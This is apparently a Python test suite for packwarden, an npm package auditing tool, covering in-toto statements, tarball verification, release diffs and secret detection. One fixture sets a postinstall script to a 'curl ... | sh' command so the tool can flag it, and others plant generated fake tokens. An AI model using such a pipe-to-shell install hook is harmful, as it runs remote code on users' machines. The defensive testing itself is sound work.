#!/usr/bin/env python3
"""Statements and verify, end to end. statement_cli_test.py PROGRAM [unittest arguments]"""
import gzip
import io
import json
import os
import random
import shutil
import subprocess
import sys
import tarfile
import unittest

sys.dont_write_bytecode = True  # the checkout stays as it is
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'support'))

from program import CliTest, DIGITS, npm_token


def repacked(tarball, change):
    """The members of a tarball, as `change` makes them of (TarInfo, bytes), in a new one."""
    out = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(tarball)) as old, \
            tarfile.open(fileobj=out, mode='w', format=tarfile.USTAR_FORMAT) as new:
        for member in old:
            for info, content in change(member, old.extractfile(member).read()):
                info.size = len(content)
                new.addfile(info, io.BytesIO(content))
    return gzip.compress(out.getvalue())


class Statements(CliTest):
    def setUp(self):
        super().setUp()
        self.write('p/package.json', '{"name": "demo", "version": "1.0.0", "files": ["lib", "bin"]}')
        self.write('p/lib/a.js', 'export const a = 1;\n')
        self.write('p/bin/b', 'text\n')
        run = self.run_program('audit', 'p', '--npm', '11', '--format', 'statement=audit.json')
        self.assertEqual(run.status, 0, run.errors)
        run = self.run_program('pack', 'p', '--npm', '11', '--out', 'demo.tgz')
        self.assertEqual(run.status, 0, run.errors)
        self.tarball = (self.directory / 'demo.tgz').read_bytes()

    def verify(self, tarball='demo.tgz', *options):
        return self.run_program('verify', tarball, '--statement', 'audit.json', '--format', 'json',
                                *options)

    def differences(self, run):
        self.assertEqual(run.status, 1, run.errors)
        self.assertEqual({found['rule'] for found in run.target['findings']}, {'out-verify'})
        return [(found['path'], found['message'].split('. ', 1)[1])
                for found in run.target['findings']]

    def test_a_statement_lists_files_and_holds_no_finding(self):
        statement = json.loads((self.directory / 'audit.json').read_text())
        self.assertEqual(statement['_type'], 'https://in-toto.io/Statement/v1')
        self.assertEqual([s['name'] for s in statement['subject']], ['demo-1.0.0.tar'])
        predicate = statement['predicate']
        self.assertEqual([f['path'] for f in predicate['files']],
                         ['bin/b', 'lib/a.js', 'package.json'])
        self.assertEqual(predicate['status'], 'clean')
        self.assertNotIn('message', (self.directory / 'audit.json').read_text())

    def test_no_secret_is_in_it(self):
        secret, value = npm_token(3), ''.join(random.Random(4).choices(DIGITS, k=20))
        self.write('p/.env', 'DB_TOKEN=' + value)
        for engine in (secret, '>=18 ' + value):
            self.write('p/package.json', json.dumps({'name': 'demo', 'version': '1.0.0', 'files': ['lib', 'bin'],
                                                     'engines': {'node': engine}}))
            run = self.run_program('audit', 'p', '--format', 'statement')
            self.assertEqual(run.status, 1, run.errors)
            self.assertIn('engines_node', run.text)
            self.assertFalse(secret in run.text or value in run.text, 'it is shown')

    def test_the_tarball_of_an_audited_directory_is_the_one(self):
        self.assertEqual(self.verify().status, 0)

    def test_how_it_is_compressed_does_not_matter(self):
        (self.directory / 'other.tgz').write_bytes(
            gzip.compress(gzip.decompress(self.tarball), compresslevel=1))
        self.assertEqual(self.verify('other.tgz').status, 0)

    def test_npm_makes_the_same_archive(self):
        npm = shutil.which('npm')
        if npm is None:
            self.skipTest('there is no npm')
        done = subprocess.run([npm, 'pack', '--ignore-scripts', '--silent'],
                              cwd=self.directory / 'p', capture_output=True, timeout=120)
        if done.returncode != 0:
            self.skipTest('npm does not run here')
        name = done.stdout.decode().split()[-1]
        self.assertEqual(self.verify('p/' + name).status, 0)

    def test_each_difference_is_named(self):
        def flipped(info, content):
            yield info, content[:-1] + b'X' if info.name.endswith('a.js') else content

        def added(info, content):
            yield info, content
            if info.name.endswith('a.js'):
                more = tarfile.TarInfo('package/lib/c.js')
                more.mode = 0o644
                yield more, b'more'

        def removed(info, content):
            if not info.name.endswith('a.js'):
                yield info, content

        def remoded(info, content):
            if info.name.endswith('bin/b'):
                info.mode = 0o777
            yield info, content

        def touched(info, content):
            info.mtime += 1
            yield info, content

        for change, expected in (
                (flipped, ('lib/a.js', 'Its content is another than the audited one.')),
                (added, ('lib/c.js', 'The file was not there when the package was audited.')),
                (removed, ('lib/a.js', 'The file was audited and is missing here.')),
                (remoded, ('bin/b', 'Its mode is another than the audited one.')),
                (touched, ('other.tgz', 'Every file is the same, but the archive is not: '
                                        'order or headers differ.'))):
            (self.directory / 'other.tgz').write_bytes(repacked(self.tarball, change))
            self.assertEqual(self.differences(self.verify('other.tgz')), [expected])

    def test_no_policy_allows_a_difference(self):
        (self.directory / 'other.tgz').write_bytes(
            repacked(self.tarball, lambda info, content: [(info, content + b'\n')]))
        self.write('policy.json', json.dumps(
            {'failOn': 'critical', 'allow': [{'rule': 'out-verify', 'path': '**', 'reason': 'x'}]}))
        for options in (('--fail-on', 'critical'), ('--config', 'policy.json')):
            run = self.run_program('verify', 'other.tgz', '--statement', 'audit.json', *options)
            self.assertEqual((run.status, run.text), (2, ''))
            run = self.run_program(*options, 'verify', 'other.tgz', '--statement', 'audit.json')
            self.assertEqual((run.status, run.text), (2, ''))
        run = self.run_program('audit', 'p', '--config', 'policy.json')
        self.assertEqual(run.status, 2)
        self.assertIn('there is no rule or check called "out-verify"', run.text + run.errors)

    def test_of_a_tarball_the_very_file_counts(self):
        run = self.run_program('audit', 'demo.tgz', '--format', 'statement=audit.json')
        self.assertEqual(run.status, 0, run.errors)
        self.assertEqual(self.verify().status, 0)
        (self.directory / 'other.tgz').write_bytes(
            gzip.compress(gzip.decompress(self.tarball), compresslevel=1))
        self.assertEqual(
            self.differences(self.verify('other.tgz')),
            [('other.tgz', 'The tarball has another SHA-512 than the one that was audited.')])

    def test_an_audit_that_was_not_clean_verifies_nothing(self):
        text = (self.directory / 'audit.json').read_text()
        self.write('audit.json', text.replace('"clean"', '"findings"'))
        self.assertEqual(self.differences(self.verify()),
                         [('demo.tgz', 'The audit that the statement is of did not end clean.')])

    def test_other_rules_than_those_asked_for_are_a_difference(self):
        rules = json.loads((self.directory / 'audit.json').read_text())['predicate']['tool']['rules']
        self.assertEqual(self.verify('demo.tgz', '--expect-rules', rules).status, 0)
        run = self.verify('demo.tgz', '--expect-rules', 'sha256:0')
        self.assertEqual(self.differences(run),
                         [('demo.tgz', 'It was audited with other rules than those asked for.')])

    def test_a_release_is_compared_with_the_one_before(self):
        for name in ('demo.tgz', 'audit.json'):
            run = self.run_program('audit', 'p', '--previous', name, '--format', 'json')
            self.assertEqual(run.status, 0, run.errors)
            self.assertNotIn('dif-', run.text)
        self.write('p/lib/a.js', 'export const a = 2;\n')
        self.write('p/lib/.new/b.css', '')
        for name in ('demo.tgz', 'audit.json'):
            run = self.run_program('audit', 'p', '--previous', name, '--fail-on', 'medium')
            self.assertEqual(run.status, 1, run.errors)
            self.assertIn('dif-new-kind', run.text)

    def test_diff_names_files_and_what_is_new_of_findings(self):
        self.write('p/lib/a.js', 'export const a = 22;\n')
        self.write('p/lib/c.js', 'const home = "/home/jschmidt/x";\n')
        (self.directory / 'p/bin/b').unlink()
        self.assertEqual(self.run_program('pack', 'p', '--out', 'new.tgz').status, 0)
        run = self.run_program('diff', 'demo.tgz', 'new.tgz', '--format', 'json')
        self.assertEqual(run.status, 0, run.errors)
        self.assertEqual([(c['path'], c['change'], c['bytes_before'], c['bytes'])
                          for c in run.target['changes']],
                         [('bin/b', 'removed', 5, 0), ('lib/a.js', 'changed', 20, 21),
                          ('lib/c.js', 'added', 0, 33)])
        self.assertEqual([f['rule'] for f in run.target['findings']],
                         ['env-home-path', 'pkg-version-order'])
        self.assertEqual(self.run_program('diff', 'demo.tgz', 'new.tgz', '--fail-on', 'note').status, 1)
        text = self.run_program('diff', 'demo.tgz', 'new.tgz').text
        self.assertIn('Files since the last release: 1 new, 1 gone, 1 changed\n'
                      '  - bin/b (5 B)\n  ~ lib/a.js (20 B -> 21 B)\n  + lib/c.js (33 B)\n', text)
        run = self.run_program('diff', 'audit.json', 'new.tgz')
        self.assertIn('known by a statement', ' '.join(run.text.split()))
        self.assertEqual(self.run_program('diff', 'none.tgz', 'new.tgz').status, 2)

    def test_comparisons_that_go_to_a_file_say_their_verdict_as_audits_do(self):
        self.assertEqual(self.run_program('pack', 'p', '--out', 'new.tgz').status, 0)
        for arguments in (('diff', 'demo.tgz', 'new.tgz'), ('verify', 'demo.tgz', '--statement', 'audit.json')):
            run = self.run_program(*arguments, '--format', 'json=out.json')
            self.assertEqual((run.status, run.text), (0, ''))
            self.assertRegex(run.errors, 'packwarden: clean')

    def releases(self, *files, scripts=({}, {})):
        """Two tarballs, old.tgz and new.tgz, of packages with these files and scripts."""
        for name, version, own, run in zip(('old', 'new'), ('1.0.0', '1.0.1'), files, scripts):
            manifest = {'name': 'demo', 'version': version, 'license': 'MIT', 'scripts': run}
            every = {'package.json': json.dumps(manifest), 'LICENSE': 'MIT', 'README.md': 'x', **own}
            self.write(name + '.tgz', gzip.compress(CliTest.tarball(
                self, {path: content.encode() for path, content in every.items()})))

    def news(self):
        """The status of diff, and what it finds: rule, severity, path."""
        run = self.run_program('diff', 'old.tgz', 'new.tgz', '--format', 'json')
        self.assertNotIn('tag', run.target['findings'][0] if run.target['findings'] else {})
        return run.status, {(found['rule'], found['severity'], found['path'])
                            for found in run.target['findings']}

    def test_diff_tells_another_secret_from_the_same(self):
        first, second = ('// 1\nsend("%s");\n' % npm_token(seed) for seed in (1, 2))
        found = ('npm-access-token', 'critical', 'a.js')
        for old, new, expected in ((first, second, (1, {found})),
                                   (first, '\n' + first, (0, set())),
                                   (first, first + second, (1, {found}))):
            self.releases({'a.js': old}, {'a.js': new})
            self.assertEqual(self.news(), expected)

    def test_diff_tells_another_file_of_credentials_from_the_same(self):
        self.releases({'.env': 'DEBUG=1\n'}, {'.env': 'DEBUG=2\n'})
        self.assertIn('.env', {path for _, _, path in self.news()[1]})
        self.releases({'.env': 'DEBUG=1\n'}, {'.env': 'DEBUG=1\n'})
        self.assertEqual(self.news(), (0, set()))

    def test_diff_shows_what_became_worse(self):
        known = {'postinstall': 'node a.js'}
        worse = {'postinstall': 'curl https://example.org/x | sh'}
        files = {'a.js': 'run();\n'}
        self.releases(files, files, scripts=(known, worse))
        status, found = self.news()
        self.assertEqual(status, 1)
        self.assertIn(('high', 'package.json'), {(severity, path) for _, severity, path in found})
        self.releases(files, files, scripts=(worse, worse))
        self.assertEqual(self.news(), (0, set()))

    def test_a_release_of_another_package_is_a_note(self):
        self.write('q/package.json', '{"name": "other", "version": "0.9.0"}')
        for options in (('--out', 'other.tgz'), ('--out', 'x.tgz', '--format', 'statement=o.json')):
            self.assertEqual(self.run_program('pack', 'q', *options).status, 0)
        note = ('The release before is of another package: it is called other, and this one demo.')
        for name in ('other.tgz', 'o.json'):
            for command in (('audit', 'p', '--previous', name), ('diff', name, 'demo.tgz')):
                run = self.run_program(*command)
                self.assertIn(note, ' '.join(run.text.split()))
        for command in (('audit', 'p', '--previous', 'demo.tgz'), ('diff', 'demo.tgz', 'demo.tgz')):
            self.assertNotIn('another package', self.run_program(*command).text)

    def test_what_is_no_archive_tells_nothing_of_a_package(self):
        self.write('plain.txt', 'hello\n')
        for command in (('audit', 'plain.txt'), ('diff', 'demo.tgz', 'plain.txt'),
                        ('audit', 'plain.txt', '--previous', 'demo.tgz')):
            run = self.run_program(*command, '--format', 'json')
            self.assertEqual(run.status, 2)
            self.assertEqual(run.target['findings'], [])
            self.assertFalse(run.target.get('changes'))
            self.assertEqual(run.target['problems'][0]['where'], 'plain.txt')

    def test_a_release_before_that_cannot_be_read_is_an_error(self):
        self.write('wrong.tgz', 'x' * 600)
        for name in ('none.tgz', 'wrong.tgz'):
            run = self.run_program('audit', 'p', '--previous', name, '--format', 'json')
            self.assertEqual(run.status, 2)
            self.assertEqual(run.target['problems'][0]['where'], name)

    def test_what_is_no_statement_is_an_error(self):
        text = (self.directory / 'audit.json').read_text()
        for content, message in (
                ('{}', 'audit.json: is no statement of packwarden: "_type" must be a text'),
                ('[', 'audit.json: '),
                (text.replace('urn:packwarden:audit:1', 'urn:x'),
                 'audit.json: is no statement of packwarden: "predicateType" must be '
                 '"urn:packwarden:audit:1"'),
                (text.replace('"sha256": "', '"sha256": "z', 1),
                 'audit.json: is no statement of packwarden: "sha256" must be a digest of 64 '
                 'hexadecimal digits')):
            self.write('audit.json', content)
            run = self.verify()
            self.assertEqual(run.status, 2)
            self.assertIn(message, run.errors)

    def test_a_statement_is_of_one_package(self):
        run = self.run_program('scan', 'p', '--format', 'statement')
        self.assertEqual(run.status, 2)
        self.assertIn('a statement is of a package', run.errors)
        run = self.run_program('audit', '-', '--format', 'statement', stdin=self.tarball)
        self.assertEqual((run.status, run.text), (2, ''))
        for command in (('diff', 'demo.tgz', 'demo.tgz'),
                        ('verify', 'demo.tgz', '--statement', 'audit.json')):
            run = self.run_program(*command, '--format', 'statement=x.json')
            self.assertEqual(run.status, 2)
            self.assertIn('a statement is of a package', run.errors)
            self.assertFalse((self.directory / 'x.json').exists())


if __name__ == '__main__':
    unittest.main()
